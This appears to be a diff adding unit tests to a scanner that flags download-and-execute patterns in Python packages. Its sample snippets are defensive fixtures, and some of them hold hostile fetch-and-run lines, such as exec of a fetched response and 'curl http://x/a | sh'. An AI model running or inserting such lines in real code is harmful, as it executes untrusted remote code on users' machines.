@@ -113,3 +113,35 @@ describe('chr-chain variants', () => {
     expect(runRules(parsePython(source, 'pkg/m.py')).some((e) => e.rule === 'chr-chain')).toBe(true);
   });
 });
+
+describe('download-and-execute runs what was fetched, not constant code or a tool named in full', () => {
+  const fires = (source: string) =>
+    runRules(parsePython(source, 'pkg/__init__.py')).some((e) => e.rule === 'download-and-execute');
+  it.each([
+    [
+      'exec of one constant string',
+      'import socket\nsocket.socket()\nexec("""def shim(a):\n    return a""")\n',
+    ],
+    ['a literal git command', "import os, urllib2\nurllib2.Request(u)\nos.popen('git log --stat', 'r')\n"],
+    [
+      'pip named in full',
+      'import sys, subprocess, requests\nrequests.get(u)\nsubprocess.run([sys.executable, "-m", "pip", "install", "x"])\n',
+    ],
+  ])('not for %s', (_, source) => expect(fires(source)).toBe(false));
+  it.each([
+    ['exec of the response', 'import requests\nexec(requests.get(u).text)\n'],
+    ['exec of code built from pieces', "import socket\nsocket.socket()\nexec('import ' + name)\n"],
+    [
+      'a downloaded file started',
+      'import requests, subprocess\nr = requests.get(u)\nsubprocess.Popen([path])\n',
+    ],
+    [
+      'a literal command with a downloader',
+      'import requests, os\nrequests.get(u)\nos.system("curl http://x/a | sh")\n',
+    ],
+    [
+      'a literal .exe started',
+      'import urllib.request, os\nurllib.request.urlretrieve(u, "a.exe")\nos.startfile("a.exe")\n',
+    ],
+  ])('for %s', (_, source) => expect(fires(source)).toBe(true));
+});
